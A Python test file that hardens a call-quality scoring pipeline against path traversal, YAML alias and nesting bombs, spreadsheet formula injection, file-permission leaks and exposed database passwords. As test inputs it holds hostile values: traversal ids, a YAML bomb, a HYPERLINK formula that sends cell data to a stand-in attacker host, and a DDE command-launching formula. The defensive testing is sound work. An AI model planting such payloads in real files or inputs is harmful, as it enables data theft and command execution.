"""Hardening (issue 11), the parts that need no model and no server: call ids checked where they
enter, nothing written outside the output folder, no false pass, decode damage flagged, zero-weight
rulebooks and YAML bombs refused, spreadsheet cells never formulas, clear one-line errors instead
of crashes, private files, masked store passwords.  Each test fails on the code before the fix."""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
from typer.testing import CliRunner

import qa_rules
from qa_rules.records import Conversation, Measures
from pipelines.shell.sources import read_source
from store_fixtures import FIXTURES, build_store

ROOT = Path(__file__).resolve().parents[1]
CALLQA = [sys.executable, "-m", "pipelines.shell.cli"]


def _fixture(call_id: str) -> tuple[Conversation, Measures]:
    conversation = Conversation.read(FIXTURES / f"{call_id}.conversation.json")
    return conversation, Measures.read(FIXTURES / f"{call_id}.measures.json")


def _write_manifest(path: Path, rows: list[tuple[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["call_id", "path", "agent_id"])
        for call_id, file in rows:
            writer.writerow([call_id, file, "A1"])
    return path


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --------------------------------------------------------------------------- 1. call ids, output paths
def test_bad_call_ids_in_a_manifest_are_refused_with_their_line(tmp_path):
    manifest = _write_manifest(tmp_path / "calls.csv", [
        ("good-1", "a.wav"), ("../../escape", "b.wav"), ("a/b", "c.wav"), ("x\\y", "d.wav"),
        ("tab\there", "e.wav"), ("x" * 300, "f.wav"), ("..", "g.wav"), ("good-2", "h.wav"),
    ])
    found = read_source(manifest)
    assert [c.call_id for c in found.calls] == ["good-1", "good-2"]
    refused = {r.label: r.reason for r in found.rejected}
    assert set(refused) == {f"manifest calls.csv, line {n}" for n in range(3, 9)}
    assert "path separator" in refused["manifest calls.csv, line 3"] and "'../../escape'" in refused["manifest calls.csv, line 3"]
    assert "control character" in refused["manifest calls.csv, line 6"] and "\t" not in refused["manifest calls.csv, line 6"]
    assert "longer than" in refused["manifest calls.csv, line 7"]
    assert all("fix the call_id column" in reason for reason in refused.values())


def test_a_file_name_that_is_no_call_id_is_refused_in_a_folder(tmp_path):
    (tmp_path / "ok.wav").write_bytes(b"x")
    (tmp_path / "back\\slash.wav").write_bytes(b"x")
    (tmp_path / "new\nline.wav").write_bytes(b"x")
    found = read_source(tmp_path)
    assert [c.call_id for c in found.calls] == ["ok"]
    assert len(found.rejected) == 2 and all("rename the file" in r.reason for r in found.rejected)
    assert all("\n" not in r.label + r.reason for r in found.rejected)


def test_writers_never_leave_the_output_folder(tmp_path):
    from qa_rules.files import OutsideOutputError

    conversation, measures = _fixture("en_no_closing")
    out = tmp_path / "a" / "b" / "out"
    out.mkdir(parents=True)
    hostile = conversation.model_copy(update={"call_id": "../../escape"})
    with pytest.raises(OutsideOutputError, match="outside the output folder"):
        hostile.write(out)
    with pytest.raises(OutsideOutputError):
        measures.model_copy(update={"call_id": "../escape"}).write(out)
    from pipelines.stages.scoring import score_and_report

    with pytest.raises(OutsideOutputError):
        score_and_report(hostile, measures.model_copy(update={"call_id": "../../escape"}), out)
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


# --------------------------------------------------------------------------- 5. duplicate call ids
def test_duplicate_call_ids_are_refused_with_all_their_lines(tmp_path):
    manifest = _write_manifest(tmp_path / "m.csv", [("c1", "a.wav"), ("c2", "b.wav"), ("c1", "c.wav"), ("c3", "d.wav")])
    found = read_source(manifest)
    assert [c.call_id for c in found.calls] == ["c2", "c3"]
    (dup,) = found.rejected
    assert dup.call_id == "c1" and "lines 2, 4" in dup.reason and "give each call its own id" in dup.reason


# --------------------------------------------------------------------------- 4. false passes
def test_a_call_without_agent_speech_is_not_scorable_never_passed():
    conversation, measures = _fixture("en_good_stereo")
    book = qa_rules.load_rulebook(qa_rules.default_rulebook_path("en"))
    assert qa_rules.score(conversation, measures, book).passed  # the whole call passes
    for utterances in ([], [u for u in conversation.utterances if u.role != "agent"]):
        card = qa_rules.score(conversation.model_copy(update={"utterances": utterances}), measures, book)
        assert card.passed is False and card.scorable is False
        assert "no agent speech" in card.not_scorable_reason
        assert any(f.reason.startswith("not scorable: no agent speech") for f in card.flags)
        data = card.model_dump(mode="json")  # contract: fields added, none renamed
        assert {"passed", "percent", "score", "max_score", "flags", "rules", "scorable", "not_scorable_reason"} <= set(data)


def test_a_call_with_no_point_at_stake_is_not_scorable(tmp_path):
    conversation, measures = _fixture("en_good_stereo")
    text = qa_rules.default_rulebook_path("en").read_text(encoding="utf-8")
    import yaml

    data = yaml.safe_load(text)
    for section in data["sections"]:
        for rule in section["rules"]:
            rule["applies_when"] = {"min_duration_s": 99999}
    (tmp_path / "never.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    card = qa_rules.score(conversation, measures, qa_rules.load_rulebook(tmp_path / "never.yaml"))
    assert card.max_score == 0 and card.passed is False and card.scorable is False
    assert "0 scorable points" in card.not_scorable_reason


def test_a_rulebook_whose_weights_are_all_zero_is_refused(tmp_path):
    text = qa_rules.default_rulebook_path("zh").read_text(encoding="utf-8")
    assert "weight: 1.0" in text
    import re

    zero = re.sub(r"weight: [0-9.]+", "weight: 0", text)
    (tmp_path / "zero.yaml").write_text(zero, encoding="utf-8")
    with pytest.raises(qa_rules.RulebookError, match="every section weight .* is 0"):
        qa_rules.load_rulebook(tmp_path / "zero.yaml")


def test_truncated_flac_is_decoded_with_a_damage_flag(tmp_path):
    from pipelines.stages.audio import decode_audio
    from tests.audio_fixtures import tone

    whole = tmp_path / "whole.flac"
    sf.write(str(whole), np.stack([tone(20.0), tone(20.0, 330.0)], axis=1), 16000, format="FLAC")
    assert decode_audio(whole).damage is None
    cut = tmp_path / "cut.flac"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 4])
    audio = decode_audio(cut)
    assert audio.damage and audio.damage.startswith("audio ends early at ") and " of 20.0 s" in audio.damage
    assert 2.0 < audio.duration_s < 10.0
    # and the scorecard carries it as a flag
    conversation, measures = _fixture("zh_good_stereo")
    damaged = conversation.model_copy(update={"audio_damage": audio.damage})
    card = qa_rules.score(damaged, measures, qa_rules.load_rulebook(qa_rules.default_rulebook_path("zh")))
    assert f"audio damaged: {audio.damage}" in [f.reason for f in card.flags]


# --------------------------------------------------------------------------- 7. rulebook bombs
def test_yaml_alias_bomb_and_huge_rulebook_are_refused_quickly(tmp_path):
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        lines.append(f"{chr(97 + i)}: &{chr(97 + i)} [{', '.join(['*' + chr(96 + i)] * 10)}]")
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert bomb.stat().st_size < 1000
    started = time.perf_counter()
    with pytest.raises(qa_rules.RulebookError, match="YAML bomb"):
        qa_rules.load_rulebook(bomb)
    huge = tmp_path / "huge.yaml"
    huge.write_text("id: x\n" + "# padding\n" * 300_000, encoding="utf-8")
    with pytest.raises(qa_rules.RulebookError, match="at most 1 MB"):
        qa_rules.load_rulebook(huge)
    assert time.perf_counter() - started < 5.0
    qa_rules.load_rulebook(qa_rules.default_rulebook_path("zh"))  # the real ones still load


@pytest.mark.parametrize("nested", ["[" * 50_000 + "]" * 50_000, "{a: " * 5_000 + "1" + "}" * 5_000])
def test_a_deeply_nested_rulebook_is_refused_in_one_line(tmp_path, monkeypatch, nested):
    """Nesting past any rulebook's is refused with one line naming the file, before the pure-Python
    YAML scanner sees it: 50 000 ``[`` kept that scanner busy for 97 s before its own refusal."""
    import yaml

    scan = yaml.parse

    def parse(stream, Loader=yaml.Loader):  # noqa: N803 - PyYAML's own keyword
        assert Loader is not yaml.SafeLoader, "the nesting bomb reached the pure-Python scanner"
        return scan(stream, Loader=Loader)

    monkeypatch.setattr(yaml, "parse", parse)
    deep = tmp_path / "deep.yaml"
    deep.write_text(f"id: x\nsections: {nested}\n", encoding="utf-8")
    with pytest.raises(qa_rules.RulebookError, match="nested too deeply") as refused:
        qa_rules.load_rulebook(deep)
    assert str(refused.value).startswith(str(deep))


# --------------------------------------------------------------------------- 6. formula injection
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_excel_and_csv_writers_neutralise_formulas(tmp_path):
    import openpyxl
    import pandas as pd

    from pipelines.coaching.excel import write_workbook
    from pipelines.review.calibration import RuleAgreement, to_csv
    from pipelines.reports.summary import SummaryRow, write_summary

    frame = pd.DataFrame({"group": [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "A1024"], "calls": [1, 2, 3, 4, 5, -6]})
    book = openpyxl.load_workbook(write_workbook({"by agent": frame}, tmp_path / "r.xlsx"))
    cells = [c for row in book["by agent"].iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[::2]] == ["'" + HOSTILE, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "A1024"]
    assert cells[-1].value == -6  # numbers stay numbers

    _, _ = write_summary([SummaryRow(call_id="c1", status="ok", score=1, max_score=1, percent=100.0, passed=True,
                                     flags=HOSTILE)], tmp_path)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "summary.csv").read_text(encoding="utf-8-sig"))))
    assert rows[0]["flags"] == "'" + HOSTILE

    calibration_csv = to_csv([RuleAgreement(rule_id="=cmd|' /C calc'!A0", reviewed=1, agree=1, kappa=None,
                                            machine_pass_human_fail=0, machine_fail_human_pass=0, other_disagree=0)])
    assert list(csv.DictReader(io.StringIO(calibration_csv)))[0]["rule_id"].startswith("'=")


def test_store_export_csv_neutralises_formulas(tmp_path):
    built = build_store(tmp_path / "store")
    with sqlite3.connect(built.out_dir / "callqa.db") as db:
        db.execute("update calls set agent_id=? where call_id='zh_interrupt'", (HOSTILE,))
    paths = built.store.export(tmp_path / "export", ("csv",))
    calls = next(p for p in paths if p.name == "calls.csv")
    agents = {r["call_id"]: r["agent_id"] for r in csv.DictReader(io.StringIO(calls.read_text(encoding="utf-8-sig")))}
    assert agents["zh_interrupt"] == "'" + HOSTILE


# --------------------------------------------------------------------------- 8. clear errors
def test_report_and_samples_on_calls_without_started_at(tmp_path):
    from pipelines.shell.cli import app

    built = build_store(tmp_path / "store")
    with sqlite3.connect(built.out_dir / "callqa.db") as db:
        db.execute("update calls set started_at=NULL where call_id in ('zh_interrupt', 'en_no_closing')")
    runner = CliRunner()
    report = runner.invoke(app, ["report", "--store-dir", str(built.out_dir), "--by", "agent", "--period", "2024-05",
                                 "--out", str(tmp_path / "report")])
    assert report.exit_code == 0, report.output + repr(report.exception)
    samples = runner.invoke(app, ["samples", "--store-dir", str(built.out_dir), "--category", "closing", "--period", "2024-05",
                                  "--best", "1", "--worst", "1", "--out", str(tmp_path / "samples")])
    assert samples.exit_code == 0, samples.output + repr(samples.exception)


def test_call_ids_are_never_read_as_rich_markup():
    from rich.console import Console
    from rich.progress import Progress, TextColumn

    from pipelines.shell.cli import progress_text

    console = Console(file=io.StringIO(), width=200)
    with Progress(TextColumn("{task.description}"), console=console) as progress:
        task = progress.add_task("QA batch", total=3)
        for call_id in ("[/]", "[bold]x", "a[/red]b"):
            progress.update(task, advance=1, description=progress_text("done", call_id))
            progress.refresh()
    assert "done a[/red]b" in console.file.getvalue()


def _without_root_bypass() -> list[str]:
    """Root ignores file permissions; drop that capability so a read-only folder is read-only."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    assert setpriv, "setpriv (util-linux) is needed to test a read-only folder as root"
    return [setpriv, "--bounding-set=-dac_override,-dac_read_search", "--"]


def test_read_only_output_folder_is_one_clear_line(tmp_path):
    out = tmp_path / "readonly"
    out.mkdir()
    out.chmod(0o555)
    try:
        proc = subprocess.run([*_without_root_bypass(), *CALLQA, "run", str(ROOT / "samples" / "calls" / "manifest.csv"),
                               "--out", str(out / "run")], capture_output=True, text=True, timeout=300, cwd=ROOT)
    finally:
        out.chmod(0o755)
    assert proc.returncode == 1
    lines = [line for line in (proc.stdout + proc.stderr).splitlines() if line.strip()]
    assert len(lines) == 1, lines
    assert "cannot write to the output folder" in lines[0] and "Permission denied" in lines[0] and "--out" in lines[0]


def test_prefect_api_that_does_not_start_is_one_clear_line(tmp_path):
    calls = tmp_path / "calls"
    calls.mkdir()
    shutil.copy(ROOT / "samples" / "calls" / "en_no_closing.wav", calls)
    env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect"), "PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS": "0",
           "PREFECT_LOGGING_LEVEL": "WARNING"}
    env.pop("PREFECT_API_URL", None)
    proc = subprocess.run([*CALLQA, "run", str(calls), "--out", str(tmp_path / "out")], capture_output=True, text=True,
                          timeout=300, env=env, cwd=ROOT)
    output = proc.stdout + proc.stderr
    assert proc.returncode == 1, output
    assert "Traceback" not in output
    error = [line for line in output.splitlines() if line.startswith("error:")]
    assert len(error) == 1 and "could not reach Prefect's local (ephemeral) API" in error[0] and "fix:" in error[0], output


# --------------------------------------------------------------------------- 9. private files, masked URLs
def test_store_and_call_files_are_private(tmp_path):
    from pipelines.stages.scoring import score_and_report
    from pipelines.results.store import Store, default_store_url

    out = tmp_path / "new" / "out"
    store = Store(default_store_url(out))
    store.register([])
    assert _mode(out / "callqa.db") == 0o600 and _mode(out) == 0o700 and _mode(tmp_path / "new") == 0o700
    conversation, measures = _fixture("en_no_closing")
    conversation.write(out)
    measures.write(out)
    score_and_report(conversation, measures, out)
    for suffix in (".conversation.json", ".measures.json", ".scorecard.json", ".scorecard.html"):
        assert _mode(out / f"en_no_closing{suffix}") == 0o600, suffix


def test_store_urls_are_printed_without_their_password():
    from pipelines.results.store import display_url

    shown = display_url("postgresql+psycopg://qa:s3cr3t-pw@db.example:5432/callqa")
    assert "s3cr3t-pw" not in shown and shown == "postgresql+psycopg://qa:***@db.example:5432/callqa"
    assert display_url("sqlite:////tmp/out/callqa.db") == "sqlite:////tmp/out/callqa.db"


# --------------------------------------------------------------------------- same call, same scorecard
_SCORE_ALL = """
import hashlib, sys
import qa_rules
from qa_rules.records import Conversation, Measures
from store_fixtures import FIXTURES
digest = hashlib.sha256()
for path in sorted(FIXTURES.glob("*.conversation.json")):
    conversation = Conversation.read(path)
    measures = Measures.read(path.with_name(path.name.replace(".conversation.", ".measures.")))
    book = qa_rules.load_rulebook(qa_rules.default_rulebook_path(conversation.language))
    digest.update(qa_rules.score(conversation, measures, book).to_json().encode())
print(digest.hexdigest())
"""


def test_scorecards_do_not_depend_on_the_process_hash_seed():
    """Two workers (or tonight's and last night's run) must give one call the same evidence: the
    batch compares good calls' scorecards across runs, so set order must never leak into them."""
    digests = set()
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed,
               "PYTHONPATH": os.pathsep.join([str(ROOT), str(ROOT / "tests"), os.environ.get("PYTHONPATH", "")])}
        proc = subprocess.run([sys.executable, "-c", _SCORE_ALL], env=env, cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        digests.add(proc.stdout.strip())
    assert len(digests) == 1, digests


@pytest.mark.parametrize("value", ["-1", "two"])
def test_score_workers_must_be_a_count(tmp_path, value):
    """`callqa score --workers` refuses a negative or non-numeric count with one usage line."""
    from pipelines.shell.cli import app

    result = CliRunner().invoke(app, ["score", str(tmp_path), "--out", str(tmp_path / "o"), "--workers", value])
    assert result.exit_code == 2
    assert "--workers" in result.output and "Traceback" not in result.output
